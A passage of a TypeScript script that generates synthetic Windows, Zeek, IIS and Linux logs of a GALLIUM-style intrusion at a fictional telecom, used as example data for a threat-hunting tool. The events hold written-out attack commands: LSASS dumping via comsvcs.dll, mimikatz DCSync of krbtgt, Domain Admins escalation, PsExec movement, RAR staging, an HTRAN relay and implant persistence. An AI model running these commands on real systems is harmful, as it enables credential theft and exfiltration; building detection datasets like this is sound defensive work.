    TargetUserName: USERS.hdadmin.name, TargetDomainName: DOMAIN, TargetSid: USERS.hdadmin.sid, SubjectUserSid: USERS.admin.sid, SubjectUserName: USERS.admin.name,
    SubjectDomainName: DOMAIN, SubjectLogonId: '0x7a3c11', PrivilegeList: '-', SamAccountName: USERS.hdadmin.name, DisplayName: '%%1793', UserPrincipalName: '-',
    HomeDirectory: '%%1793', HomePath: '%%1793', ScriptPath: '%%1793', ProfilePath: '%%1793', UserWorkstations: '%%1793', PasswordLastSet: '%%1794', AccountExpires: '%%1794',
    PrimaryGroupId: 513, AllowedToDelegateTo: '-', OldUacValue: '0x0', NewUacValue: '0x15', UserAccountControl: '\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084', UserParameters: '%%1793',
    SidHistory: '-', LogonHours: '%%1797',
  });
  spawn(tA + 1500, dcmd2, 'C:\\Windows\\System32\\net.exe', `net  group "Domain Admins" ${USERS.hdadmin.name} /add /domain`, { account: USERS.admin });
  security(H.dc, tA + 1900, 4728, {
    MemberName: `CN=${USERS.hdadmin.name},CN=Users,DC=corp,DC=nordtel,DC=example`, MemberSid: USERS.hdadmin.sid, TargetUserName: 'Domain Admins', TargetDomainName: DOMAIN,
    TargetSid: `${DOMAIN_SID}-512`, SubjectUserSid: USERS.admin.sid, SubjectUserName: USERS.admin.name, SubjectDomainName: DOMAIN, SubjectLogonId: '0x7a3c11', PrivilegeList: '-',
  });
  note(tA + 1900, H.dc, `New account ${DOMAIN}\\${USERS.hdadmin.name} (4720) added to Domain Admins (4728) 1 s later`);
  const dcmd3 = spawn(at(1, '02:12:08'), wmiDc, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c tasklist /fi "imagename eq lsass.exe" & rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 588 C:\\PerfLogs\\ntds\\l.tmp full', { account: USERS.admin });
  spawn(at(1, '02:12:10'), dcmd3, 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe  C:\\Windows\\System32\\comsvcs.dll, MiniDump 588 C:\\PerfLogs\\ntds\\l.tmp full', { account: USERS.admin });
  // DCSync from WEB-IIS01 with the new account.
  const tD = at(1, '02:20:44');
  note(tD, web0, `DCSync: mt.exe "lsadump::dcsync /user:${DOMAIN}\\krbtgt" -> 4662 replication rights by ${USERS.hdadmin.name} on DC01`);
  chopper(tD, STAGE, `mt.exe "lsadump::dcsync /domain:${FQDN} /user:${DOMAIN}\\krbtgt" exit`, STAGE + 'mt.exe', PE.mimikatz!);
  logon(H.dc, tD + 300, USERS.hdadmin, 3, { ip: web0.ip, workstation: web0.name, pkg: 'NTLM' });
  for (const right of ['1131f6aa-9c07-11d1-f79f-00c04fc2dcd2', '1131f6ad-9c07-11d1-f79f-00c04fc2dcd2']) {
    security(H.dc, tD + 500, 4662, {
      SubjectUserSid: USERS.hdadmin.sid, SubjectUserName: USERS.hdadmin.name, SubjectDomainName: DOMAIN, SubjectLogonId: '0x9b21f0', ObjectServer: 'DS',
      ObjectType: '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}', ObjectName: '%{4c9b1a0e-2a5d-4f08-9c31-6e8b0f3d7a11}', OperationType: 'Object Access', HandleId: '0x0',
      AccessList: '%%7688\n\t\t\t\t', AccessMask: '0x100', Properties: `%%7688\n\t\t{${right}}\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\n`, AdditionalInfo: '-', AdditionalInfo2: '',
    });
  }

  // --- Day 2, 01:05-02:10: call records exported and packed on CDR-DB01 ---
  const tC = at(2, '01:05:09');
  note(tC, H.cdr, 'Call-detail records located (dir /s *.cdr) and exported with bcp queryout, run through PsExec as SYSTEM');
  chopperPost(tC - 2000);
  const psx2 = spawn(tC - 1500, existing(web0, STAGE + 'dllhost32.exe', 'dllhost32.exe', SYSTEM), STAGE + 'ps.exe', `ps.exe  \\\\10.20.2.21 -accepteula -s cmd`, { pe: PE.psexec, cwd: STAGE });
  void psx2;
  logon(H.cdr, tC - 1200, USERS.hdadmin, 3, { ip: web0.ip, workstation: web0.name, pkg: 'NTLM' });
  service7045(H.cdr, tC - 1000, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
  const psexesvc2 = spawn(tC - 800, servicesCdr, 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', { account: SYSTEM, pe: { ...PE.psexec!, ofn: 'psexesvc.exe', desc: 'PsExec Service' } });
  const scmd = spawn(tC, psexesvc2, 'C:\\Windows\\System32\\cmd.exe', 'cmd', { account: SYSTEM, pe: PE.cmd });
  spawn(tC + 30000, scmd, 'C:\\Windows\\System32\\cmd.exe', 'cmd /c dir /s /b D:\\CDR_EXPORT\\*.cdr > C:\\Windows\\Temp\\f.txt', { pe: PE.cmd });
  const bcpImg = 'C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\130\\Tools\\Binn\\bcp.exe';
  spawn(tC + 240000, scmd, bcpImg, 'bcp "SELECT msisdn, imsi, imei, called_number, cell_id, lac, call_start, duration_s FROM CDR.dbo.CallRecords WHERE call_start >= \'2019-01-01\'" queryout D:\\CDR_EXPORT\\q1\\cr_2019q1.csv -c -t, -T -S localhost', { pe: PE.bcp });
  const tR = at(2, '01:41:27');
  const recycle = 'C:\\$Recycle.Bin\\S-1-5-21-2293847110-3987142065-1780024693-500\\';
  note(tR, H.cdr, 'Staging: renamed RAR (C:\\$Recycle.Bin\\...\\rr.exe) packs the exports with a password (-hp) into 200 MB volumes in the Recycle Bin');
  const rr = spawn(tR, scmd, `${recycle}rr.exe`, `${recycle}rr.exe a -r -m5 -v200m -hpN0rdt3l#cdr ${recycle}cr1.rar D:\\CDR_EXPORT\\q1\\*.csv D:\\CDR_EXPORT\\2019-02\\*.cdr`, { pe: PE.rar, cwd: recycle });
  for (let i = 1; i <= 6; i++) fileCreate(tR + i * 41000, rr, `${recycle}cr1.part${i}.rar`);

  // --- Day 2, 02:30-05:40: exfiltration through an HTRAN relay on WEB-IIS01 and the web shell ---
  const tH = at(2, '02:30:02');
  note(tH, web0, `HTRAN-like relay: msupdate.exe -tran 8443 ${H.cdr.ip} 445 accepts ${OPERATOR_IP} and connects to CDR-DB01; archives leave over it and as large web-shell responses`);
  chopperPost(tH - 600);
  const hcmd = spawn(tH, w3wp, 'C:\\Windows\\System32\\cmd.exe', `cmd /c cd /d "${STAGE}"&msupdate.exe -tran 8443 ${H.cdr.ip} 445&echo [S]&cd&echo [E]`, { pe: PE.cmd, cwd: 'C:\\Windows\\system32\\inetsrv\\' });
  const htran = spawn(tH + 100, hcmd, STAGE + 'msupdate.exe', `msupdate.exe  -tran 8443 ${H.cdr.ip} 445`, { pe: PE.none, cwd: STAGE });
  for (let i = 0; i < 3; i++) {
    const t = tH + 20000 + i * 600000;
    netConn(t, htran, { initiated: false, src: OPERATOR_IP, sport: int(40000, 60000), dst: web0.ip, dport: 8443 });
    netConn(t + 300, htran, { initiated: true, src: web0.ip, sport: int(49152, 65000), dst: H.cdr.ip, dport: 445 });
    zconn(t, { src: OPERATOR_IP, dst: PUBLIC_WEB_IP, dport: 8443, dur: 540, ob: 90_000, rb: 205_000_000 });
    zconn(t + 300, { src: web0.ip, dst: H.cdr.ip, dport: 445, service: 'smb', dur: 538, ob: 88_000, rb: 204_000_000 });
  }
  for (let i = 0; i < 4; i++) chopperPost(at(2, '05:10:00') + i * 420000, 209_715_200 - int(0, 4_000_000), 380);

  // --- Day 2, 06:02: PingPull installed on CDR-DB01 as "IP He1per"; ICMP and HTTPS:8080 C2 ---
  const tPP = at(2, '06:02:31');
  note(tPP, H.cdr, 'PingPull-like implant: dropper ipupd.exe writes and timestomps iph1psvc.exe; sc create Iph1psvc DisplayName "IP He1per" (7045, 4697, Sysmon 13); ICMP C2 and TLS to 8080');
  const drop = spawn(tPP, scmd, 'C:\\Windows\\Temp\\ipupd.exe', 'C:\\Windows\\Temp\\ipupd.exe', { pe: PE.none, cwd: 'C:\\Windows\\Temp\\' });
  const implant = 'C:\\ProgramData\\Microsoft\\IPHelper\\iph1psvc.exe';
  fileCreate(tPP + 400, drop, implant);
  sysmon(H.cdr, tPP + 900, 2, { ProcessGuid: drop.guid, ProcessId: drop.pid, Image: drop.image, TargetFilename: implant, CreationUtcTime: '2016-07-16 11:42:07.000', PreviousCreationUtcTime: utc(tPP + 400), User: drop.user });
  const scx = spawn(tPP + 2000, drop, 'C:\\Windows\\System32\\sc.exe', `sc  create Iph1psvc binPath= "${implant}" DisplayName= "IP He1per" start= auto`, { pe: PE.sc });
  regSet(tPP + 2100, { ...scx, image: 'C:\\Windows\\system32\\services.exe' }, 'HKLM\\System\\CurrentControlSet\\Services\\Iph1psvc\\ImagePath', implant);
  service7045(H.cdr, tPP + 2150, 'IP He1per', implant, 'auto start');
  security(H.cdr, tPP + 2150, 4697, { SubjectUserSid: 'S-1-5-18', SubjectUserName: `${H.cdr.name}$`, SubjectDomainName: DOMAIN, SubjectLogonId: '0x3e7', ServiceName: 'Iph1psvc', ServiceFileName: implant, ServiceType: '0x10', ServiceStartType: 2, ServiceAccount: 'LocalSystem', ClientProcessStartKey: '-', ClientProcessId: '-', ParentProcessId: '-' });
  const pp = spawn(tPP + 3000, servicesCdr, implant, implant, { account: SYSTEM, pe: PE.none, cwd: 'C:\\Windows\\system32\\' });
  for (let i = 0; i < 12; i++) {
    const t = tPP + 10000 + i * 1_800_000;
    if (t > at(3, '23:59:00')) break;
    dnsQuery(t, pp, PINGPULL_C2, C2_IP);
    zdns(t, H.cdr.ip, PINGPULL_C2, [C2_IP]);
    zconn(t + 100, { src: H.cdr.ip, sport: 8, dst: C2_IP, dport: 0, proto: 'icmp', dur: 20 + int(0, 40), ob: 4_800 + int(0, 6000), rb: 2_400 + int(0, 3000), state: 'OTH' });
    if (i % 3 === 0) {
      netConn(t + 200, pp, { initiated: true, src: H.cdr.ip, sport: int(49152, 65000), dst: C2_IP, dport: 8080 });
      zconn(t + 200, { src: H.cdr.ip, dst: C2_IP, dport: 8080, service: 'ssl', dur: 4, ob: 1_900, rb: 3_100, tls: { sni: PINGPULL_C2, subject: `CN=${PINGPULL_C2}`, issuer: `CN=${PINGPULL_C2}`, status: 'self signed certificate' } });
    }
  }

  // --- Day 2, 07:15: a second implant on WEB-IIS01 beacons to dynamic DNS and POSTs to a bare IP ---
  const tG = at(2, '07:15:12');
  note(tG, web0, `Gh0st-variant service "Windows Update Helper" (C:\\ProgramData\\svchost.exe) resolves ${DDNS_C2} and POSTs to ${C2_IP}; Run value "Onedrive" starts it too`);
  service7045(web0, tG, 'Windows Update Helper', 'C:\\ProgramData\\svchost.exe -k wuhelper', 'auto start');
  const servicesWeb = existing(web0, 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe', SYSTEM, 600);
  const gh = spawn(tG + 800, servicesWeb, 'C:\\ProgramData\\svchost.exe', 'C:\\ProgramData\\svchost.exe -k wuhelper', { account: SYSTEM, pe: PE.svchost });
  imageLoad(tG + 900, gh, 'C:\\ProgramData\\wuhelper.dll', PE.none!, false, '', 'Unavailable');
  // A second foothold in case the service is removed: a Run value with PingPull's look-alike name.
  regSet(tG + 1500, gh, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Onedrive', 'C:\\ProgramData\\svchost.exe -k wuhelper');
  for (let i = 0; i < 16; i++) {
    const t = tG + 5000 + i * 900_000;
    if (t > at(3, '23:59:00')) break;
    dnsQuery(t, gh, DDNS_C2, C2_IP);
    zdns(t, web0.ip, DDNS_C2, [C2_IP]);
    netConn(t + 100, gh, { initiated: true, src: web0.ip, sport: int(49152, 65000), dst: C2_IP, dport: 80, dstName: DDNS_C2 });
    zhttp(t + 100, { src: web0.ip, dst: C2_IP, method: 'POST', host: C2_IP, uri: `/${hex(8).toLowerCase()}.php`, ua: 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)', status: 200, reqLen: int(200, 900), respLen: int(40, 300) });
    zconn(t + 100, { src: web0.ip, dst: C2_IP, dport: 80, service: 'http', dur: 0.4, ob: 1_100, rb: 400 });
  }

  // --- Day 3, 02:14-02:40: SoftEther VPN bridge on APP-JBOSS02 as the way back in; PoisonIvy-style task ---
  const tS = at(3, '02:14:50');
  note(tS, H.jboss, `SoftEther VPN bridge (renamed netmgr.exe) installed as service SEVPNBRIDGE; registers ${SOFTETHER_DDNS}; scheduled task side-loads an unsigned DLL from ProgramData`);
  const jcmd2 = spawn(tS - 3000, java, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c C:\\ProgramData\\Microsoft\\Network\\netmgr.exe /install', { pe: PE.cmd, cwd: 'C:\\jboss-6.1.0.Final\\bin\\' });
  spawn(tS, jcmd2, 'C:\\ProgramData\\Microsoft\\Network\\netmgr.exe', 'C:\\ProgramData\\Microsoft\\Network\\netmgr.exe /install', { pe: PE.vpnbridge, cwd: 'C:\\ProgramData\\Microsoft\\Network\\' });
  service7045(H.jboss, tS + 2000, 'SEVPNBRIDGE', '"C:\\ProgramData\\Microsoft\\Network\\netmgr.exe" /service', 'auto start');
  const servicesJ = existing(H.jboss, 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe', SYSTEM, 596);
  const vpn = spawn(tS + 3000, servicesJ, 'C:\\ProgramData\\Microsoft\\Network\\netmgr.exe', '"C:\\ProgramData\\Microsoft\\Network\\netmgr.exe" /service', { account: SYSTEM, pe: PE.vpnbridge });
  for (let i = 0; i < 5; i++) {
    const t = tS + 8000 + i * 3_600_000;
    dnsQuery(t, vpn, SOFTETHER_DDNS, '130.158.6.60');
    zdns(t, H.jboss.ip, SOFTETHER_DDNS, ['130.158.6.60']);
    netConn(t + 100, vpn, { initiated: true, src: H.jboss.ip, sport: int(49152, 65000), dst: '130.158.6.60', dport: 5555 });
    zconn(t + 100, { src: H.jboss.ip, dst: '130.158.6.60', dport: 5555, service: 'ssl', dur: 3_500, ob: 2_000_000, rb: 9_000_000, tls: { sni: SOFTETHER_DDNS, subject: 'CN=VPN Server,O=SoftEther VPN Project', issuer: 'CN=VPN Server,O=SoftEther VPN Project', status: 'self signed certificate' } });
  }
  const tT = at(3, '02:40:12');
  const jcmd3 = spawn(tT, java, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c schtasks /create /tn "Microsoft\\Windows\\DeviceSync\\SyncVerify" /tr "C:\\ProgramData\\Microsoft\\DeviceSync\\dsync.exe" /sc onstart /ru SYSTEM /f', { pe: PE.cmd, cwd: 'C:\\jboss-6.1.0.Final\\bin\\' });
  spawn(tT + 100, jcmd3, 'C:\\Windows\\System32\\schtasks.exe', 'schtasks  /create /tn "Microsoft\\Windows\\DeviceSync\\SyncVerify" /tr "C:\\ProgramData\\Microsoft\\DeviceSync\\dsync.exe" /sc onstart /ru SYSTEM /f', { pe: PE.schtasks });
  security(H.jboss, tT + 300, 4698, {
    SubjectUserSid: USERS.jboss.sid, SubjectUserName: USERS.jboss.name, SubjectDomainName: DOMAIN, SubjectLogonId: '0x2b51e3', TaskName: '\\Microsoft\\Windows\\DeviceSync\\SyncVerify',
    TaskContent: '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <Triggers>\r\n    <BootTrigger>\r\n      <Enabled>true</Enabled>\r\n    </BootTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id="Author">\r\n      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>C:\\ProgramData\\Microsoft\\DeviceSync\\dsync.exe</Command>\r\n    </Exec>\r\n  </Actions>\r\n</Task>',
  });
  const dsync = spawn(tT + 60000, existing(H.jboss, 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', SYSTEM), 'C:\\ProgramData\\Microsoft\\DeviceSync\\dsync.exe', 'C:\\ProgramData\\Microsoft\\DeviceSync\\dsync.exe', { account: SYSTEM, pe: { desc: 'Microsoft Device Sync Helper', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'DeviceSyncHelper.exe', version: '10.0.14393.0' } });
  imageLoad(tT + 60200, dsync, 'C:\\ProgramData\\Microsoft\\DeviceSync\\DeviceSyncCore.dll', PE.none!, false, '', 'Unavailable');
}

// ---------------------------------------------------------------------------------------------
// Writers
// ---------------------------------------------------------------------------------------------
function evtxDump(r: WinRecord, recordId: number): unknown {
  const provider: Record<string, unknown> = { '#attributes': { ...r.provider } };
  const eventId = r.qualifiers !== undefined ? { '#attributes': { Qualifiers: r.qualifiers }, '#text': r.eventId } : r.eventId;
  return {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: provider, EventID: eventId, Version: r.version, Level: r.level, Task: r.task, Opcode: 0, Keywords: r.keywords,
        TimeCreated: { '#attributes': { SystemTime: isoZ(r.t) } }, EventRecordID: recordId, Correlation: null,
        Execution: { '#attributes': { ProcessID: r.pid, ThreadID: 4000 + (recordId % 900) } }, Channel: r.channel, Computer: fq(r.host),
        Security: r.userId ? { '#attributes': { UserID: r.userId } } : null,
      },
      EventData: r.data,
    },
  };
}

function winlogbeat(r: WinRecord, recordId: number): unknown {
  return {
    '@timestamp': new Date(r.t).toISOString(),
    agent: { type: 'winlogbeat', version: '7.0.0', hostname: r.host.name },
    ecs: { version: '1.0.0' },
    host: { name: fq(r.host) },
    event: { code: r.eventId, kind: 'event', provider: r.provider.Name, created: new Date(r.t + 1200).toISOString() },
    log: { level: r.level === 0 ? 'information' : 'information' },
    winlog: {
      channel: r.channel, computer_name: fq(r.host), event_id: r.eventId, provider_name: r.provider.Name, provider_guid: r.provider.Guid,
      record_id: recordId, task: r.task === 12544 ? 'Logon' : '', keywords: ['Audit Success'], process: { pid: r.pid, thread: { id: 4100 } },
      event_data: Object.fromEntries(Object.entries(r.data).map(([k, v]) => [k, v === null ? '' : String(v)])),
    },
  };
}

const CHANNEL_FILE: Record<string, string> = {
  [SYSMON_CH]: 'sysmon', Security: 'security', System: 'system', 'Microsoft-Windows-PowerShell/Operational': 'powershell',
};

function pad(n: number, w = 2): string {
  return String(n).padStart(w, '0');
}

function writeAll(outDir: string, linux: LinuxHostOutput): { files: Array<{ path: string; bytes: number; events: number }>; totalEvents: number } {
  rmSync(outDir, { recursive: true, force: true });
  mkdirSync(outDir, { recursive: true });
  const files: Array<{ path: string; bytes: number; events: number }> = [];
  const put = (rel: string, content: string | Buffer, events: number): void => {
    const p = path.join(outDir, rel);
    mkdirSync(path.dirname(p), { recursive: true });
    writeFileSync(p, content);
    files.push({ path: rel, bytes: Buffer.byteLength(content), events });
  };
  // Windows: one file per host and channel, records in time order with per-channel record ids.
  records.sort((a, b) => a.t - b.t);
  const groups = new Map<string, WinRecord[]>();
  for (const r of records) {
    const k = `${r.host.name}/${CHANNEL_FILE[r.channel]}`;
    const g = groups.get(k) ?? [];
    g.push(r);
    groups.set(k, g);
  }
  const firstId: Record<string, number> = { sysmon: 184_220, security: 3_402_118, system: 21_907, powershell: 5_311 };
  for (const [k, rs] of [...groups].sort()) {
    const [host, ch] = k.split('/') as [string, string];
    let id = firstId[ch]! + host.length * 1013;
    if (host === H.ws1.name && ch === 'security') {
      const lines = rs.map((r) => JSON.stringify(winlogbeat(r, id++))).join('\n') + '\n';
      put(`${host}/winlogbeat-security.ndjson`, lines, rs.length);
      continue;
    }
    const lines = rs.map((r) => JSON.stringify(evtxDump(r, id++))).join('\n') + '\n';
    if (host === H.fs.name && ch === 'security') put(`${host}/${ch}.jsonl.gz`, gzipSync(Buffer.from(lines), { level: 9 }), rs.length);
    else put(`${host}/${ch}.jsonl`, lines, rs.length);
  }
  // IIS W3C: one file per day (UTC), as IIS rolls them.
  w3c.sort((a, b) => a.t - b.t);
  for (let d = 0; d < DAYS; d++) {
    const dayStart = BASE + d * 86400000;
    const rows = w3c.filter((r) => r.t >= dayStart && r.t < dayStart + 86400000);
    const dt = new Date(dayStart);
    const date = `${dt.getUTCFullYear()}-${pad(dt.getUTCMonth() + 1)}-${pad(dt.getUTCDate())}`;
    const head = [
      '#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', `#Date: ${date} 00:00:00`,
      '#Fields: date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken',
    ];
    const body = rows.map((r) => {
      const time = new Date(r.t).toISOString().slice(11, 19);
      return [date, time, 'W3SVC1', H.web.name, H.web.ip, r.method, r.stem, r.query, 443, r.user, r.cip, r.ua.replace(/ /g, '+'), r.referer, r.status, 0, 0, r.bytes, r.csBytes, r.taken].join(' ');
    });
    put(`${H.web.name}/iis/W3SVC1/u_ex${String(dt.getUTCFullYear()).slice(2)}${pad(dt.getUTCMonth() + 1)}${pad(dt.getUTCDate())}.log`, [...head, ...body].join('\r\n') + '\r\n', rows.length);
  }
  // Zeek TSV.
  const ZF: Record<string, { fields: string[]; types: string[] }> = {
    dns: {
      fields: ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'proto', 'trans_id', 'rtt', 'query', 'qclass', 'qclass_name', 'qtype', 'qtype_name', 'rcode', 'rcode_name', 'AA', 'TC', 'RD', 'RA', 'Z', 'answers', 'TTLs', 'rejected'],
      types: ['time', 'string', 'addr', 'port', 'addr', 'port', 'enum', 'count', 'interval', 'string', 'count', 'string', 'count', 'string', 'count', 'string', 'bool', 'bool', 'bool', 'bool', 'count', 'vector[string]', 'vector[interval]', 'bool'],
    },
    conn: {
      fields: ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'proto', 'service', 'duration', 'orig_bytes', 'resp_bytes', 'conn_state', 'local_orig', 'local_resp', 'missed_bytes', 'history', 'orig_pkts', 'orig_ip_bytes', 'resp_pkts', 'resp_ip_bytes', 'tunnel_parents'],
      types: ['time', 'string', 'addr', 'port', 'addr', 'port', 'enum', 'string', 'interval', 'count', 'count', 'string', 'bool', 'bool', 'count', 'string', 'count', 'count', 'count', 'count', 'set[string]'],
    },
    http: {
      fields: ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'trans_depth', 'method', 'host', 'uri', 'referrer', 'version', 'user_agent', 'origin', 'request_body_len', 'response_body_len', 'status_code', 'status_msg', 'info_code', 'info_msg', 'tags', 'username', 'password', 'proxied', 'orig_fuids', 'orig_filenames', 'orig_mime_types', 'resp_fuids', 'resp_filenames', 'resp_mime_types'],
      types: ['time', 'string', 'addr', 'port', 'addr', 'port', 'count', 'string', 'string', 'string', 'string', 'string', 'string', 'string', 'count', 'count', 'count', 'string', 'count', 'string', 'set[enum]', 'string', 'string', 'set[string]', 'vector[string]', 'vector[string]', 'vector[string]', 'vector[string]', 'vector[string]', 'vector[string]'],
    },
  };
  ZF.ssl = {
    fields: ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'version', 'cipher', 'curve', 'server_name', 'resumed', 'last_alert', 'next_protocol', 'established', 'ssl_history', 'cert_chain_fps', 'client_cert_chain_fps', 'subject', 'issuer', 'validation_status'],
    types: ['time', 'string', 'addr', 'port', 'addr', 'port', 'string', 'string', 'string', 'string', 'bool', 'string', 'string', 'bool', 'string', 'vector[string]', 'vector[string]', 'string', 'string', 'string'],
  };
  for (const name of ['dns', 'conn', 'http', 'ssl'] as const) {
    const rows = zeek[name].sort((a, b) => a.t - b.t);
    const spec = ZF[name]!;
    const head = [
      '#separator \\x09', '#set_separator\t,', '#empty_field\t(empty)', '#unset_field\t-', `#path\t${name}`, '#open\t2019-03-04-00-00-00',
      `#fields\t${spec.fields.join('\t')}`, `#types\t${spec.types.join('\t')}`,
    ];
    const body = rows.map((r) => r.cols.join('\t'));
    put(`zeek/${name}.log`, [...head, ...body, '#close\t2019-03-08-00-00-00'].join('\n') + '\n', rows.length);
  }
  // The Linux WildFly host: access log, auditd, syslog with Sysmon for Linux, journal export.
  for (const f of linux.files) put(f.path, f.content, f.events);
  const totalEvents = files.reduce((s, f) => s + f.events, 0);
  return { files, totalEvents };
}

function readme(files: Array<{ path: string; bytes: number; events: number }>, total: number): string {
  const fmt = (t: number): string => new Date(t).toISOString().replace('T', ' ').slice(0, 19);
  const rows = story.sort((a, b) => a.t - b.t).map((m) => `| ${fmt(m.t)} | ${m.host} | ${m.what.replace(/\|/g, '\\|')} |`);
  const fileRows = files.sort((a, b) => (a.path < b.path ? -1 : 1)).map((f) => `| \`${f.path}\` | ${f.events} | ${(f.bytes / 1024).toFixed(0)} KiB |`);
  const totalBytes = files.reduce((s, f) => s + f.bytes, 0);
  return `# soft-cell: a GALLIUM-style intrusion at a fictional operator

Generated by \`scripts/generate-examples.ts\` (seeded, deterministic; do not edit by hand):

    npx tsc -p . && node dist/scripts/generate-examples.js

Nordtel (domain \`${DOMAIN}\`, \`${FQDN}\`) runs a public portal on **WEB-IIS01** (IIS, DMZ
${H.web.ip}, public ${PUBLIC_WEB_IP}), a customer-care application on **APP-JBOSS02** (JBoss 6.1, DMZ
${H.jboss.ip}), a self-care billing portal on **${LINUX_HOST.folder}** (WildFly 10 on CentOS 7, DMZ
${LINUX_HOST.ip}), a domain controller **DC01** (${H.dc.ip}; Security auditing with command lines, no
Sysmon), the call-detail-record database **CDR-DB01** (${H.cdr.ip}), a file server **FS01** and
workstations **WS-0142** / **WS-0177**. A Zeek sensor watches the DMZ and the internet edge. The IIS
application pool runs as LocalSystem (a least-privilege gap, on purpose).

Between 2019-03-04 and 2019-03-07 (all times UTC) an intruder working like GALLIUM gets in through the
web server, steals credentials, moves to the domain controller and the CDR database, packs call
records with a password-protected, split RAR in the Recycle Bin, takes them out through an HTRAN-like
relay and the web shell, and leaves a PingPull-like implant, a dynamic-DNS backdoor and a SoftEther
VPN bridge behind. It is buried in four days of ordinary activity: logons, Windows and Defender
updates, admin RDP sessions, a nightly database backup, a helpdesk \`ipconfig\`, web traffic and
health probes. Every tool of the intruder is renamed, so rules must key on behaviour.

## The story

| time (UTC) | host | what happens |
| --- | --- | --- |
${rows.join('\n')}

Hunt it:

    node dist/src/cli/main.js hunt examples/soft-cell

## Files (${total} events, ${(totalBytes / 1024 / 1024).toFixed(2)} MiB)

| file | events | size |
| --- | --- | --- |
${fileRows.join('\n')}

Formats: evtx_dump-style JSONL (\`{"Event":{"System":…,"EventData":…}}\`) per host and channel;
WS-0142's Security log as Winlogbeat NDJSON; FS01's Security log gzip-compressed; IIS W3C extended
logs with \`sc-bytes\`/\`cs-bytes\` enabled; Zeek TSV \`dns.log\`, \`conn.log\`, \`http.log\`, \`ssl.log\`;
on ${LINUX_HOST.folder} an Undertow \`combined\` access log with response times (server clock +0100), raw
auditd records, Sysmon for Linux events in \`syslog\` and a \`journalctl -u wildfly -o json\` export.
Addresses: ${SCANNER_IP} and ${STAGING_HTTP_IP} are documentation addresses; ${OPERATOR_IP} and
${C2_IP}, and the names ${DDNS_C2}, ${PINGPULL_C2}, ${SOFTETHER_DDNS}, come from the GALLIUM
indicator pack (content/intel), so the indicator matcher has something to find too.
`;
}

function main(): void {
  const here = path.dirname(fileURLToPath(import.meta.url));
  const root = path.resolve(here, '..', '..');
  const i = process.argv.indexOf('--out');
  const outDir = i > 0 && process.argv[i + 1] ? path.resolve(process.argv[i + 1]!) : path.join(root, 'examples', 'soft-cell');
  backgroundWeb();
  backgroundHosts();
  intrusion();
  const linux = linuxWildflyHost({ at, days: DAYS, operatorIp: OPERATOR_IP, stagingIp: STAGING_HTTP_IP, cdrIp: H.cdr.ip });
  for (const n of linux.notes) note(n.t, n.host, n.what);
  const { files, totalEvents } = writeAll(outDir, linux);
  writeFileSync(path.join(outDir, 'README.md'), readme(files, totalEvents));
  const bytes = files.reduce((s, f) => s + f.bytes, 0);
  process.stdout.write(`wrote ${outDir}: ${files.length} files, ${totalEvents} events, ${(bytes / 1024 / 1024).toFixed(2)} MiB\n`);
}

main();
